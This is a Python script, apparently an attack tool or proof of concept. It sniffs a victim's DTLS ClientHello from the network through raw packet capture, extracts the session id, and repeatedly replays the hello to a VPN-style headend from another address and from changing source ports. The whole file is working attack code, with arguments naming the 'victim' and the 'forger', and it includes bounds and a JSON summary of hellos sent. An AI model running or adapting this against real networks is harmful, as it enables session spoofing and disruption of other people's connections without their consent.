#!/usr/bin/env python3
"""Forges DTLS ClientHellos for a live session from another address.

Sniffs the client's first DTLS ClientHello on an interface (AF_PACKET: the
session id travels in clear, as anybody on the path sees it), then replays
it to the headend from another local address, each time from a new UDP
source port, every --every seconds for --duration seconds.  Prints a JSON
summary (session id, hellos sent).  Bounded: gives up sniffing after
--sniff-timeout seconds (exit 2).
"""
import argparse
import json
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
ETH_P_ALL = 0x0003  # outgoing frames reach only ETH_P_ALL taps


def client_hello(frame, client, port):
    """The UDP payload of frame when it is a DTLS ClientHello from client to port."""
    if len(frame) < 14 + 20 + 8 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[9] != 17 or socket.inet_ntoa(ip[12:16]) != client:
        return None
    udp = ip[ihl:]
    if struct.unpack("!H", udp[2:4])[0] != port:
        return None
    payload = udp[8:]
    # DTLS record: type 22 (handshake), 13-byte header; handshake type 1
    if len(payload) < 13 + 12 + 2 + 32 + 1 or payload[0] != 22 or payload[13] != 1:
        return None
    return bytes(payload)


def session_id(hello):
    # record hdr 13, handshake hdr 12, client_version 2, random 32, sid len
    off = 13 + 12 + 2 + 32
    n = hello[off]
    return hello[off + 1:off + 1 + n].hex()


def sniff(iface, client, port, timeout):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    print("sniffing", file=sys.stderr, flush=True)
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        s.settimeout(max(0.05, end - time.monotonic()))
        try:
            frame = s.recv(65535)
        except socket.timeout:
            break
        hello = client_hello(frame, client, port)
        if hello:
            s.close()
            return hello
    s.close()
    return None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--client", required=True, help="the victim's address")
    ap.add_argument("--server", required=True)
    ap.add_argument("--port", type=int, default=443)
    ap.add_argument("--source", required=True, help="the forger's own address")
    ap.add_argument("--delay", type=float, default=1.0, help="seconds after the sniffed hello")
    ap.add_argument("--every", type=float, default=0.5)
    ap.add_argument("--duration", type=float, default=8.0)
    ap.add_argument("--sniff-timeout", type=float, default=30.0)
    a = ap.parse_args()

    hello = sniff(a.iface, a.client, a.port, a.sniff_timeout)
    if not hello:
        print(json.dumps({"error": "no ClientHello seen"}))
        return 2
    time.sleep(a.delay)
    sent = 0
    end = time.monotonic() + a.duration
    while time.monotonic() < end and sent < 1000:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind((a.source, 0))  # a new source port each time
        u.sendto(hello, (a.server, a.port))
        u.close()
        sent += 1
        time.sleep(a.every)
    print(json.dumps({"session_id": session_id(hello), "hello_len": len(hello), "sent": sent}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
